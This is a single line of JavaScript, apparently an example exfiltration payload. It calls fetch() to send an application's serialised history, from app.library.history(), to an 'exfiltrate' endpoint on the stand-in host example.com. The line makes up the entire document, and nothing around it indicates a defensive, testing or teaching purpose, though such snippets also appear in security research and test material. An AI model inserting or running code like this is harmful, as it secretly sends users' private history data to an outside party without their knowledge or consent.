fetch('http://example.com/exfiltrate?d=' + JSON.stringify(app.library.history()));
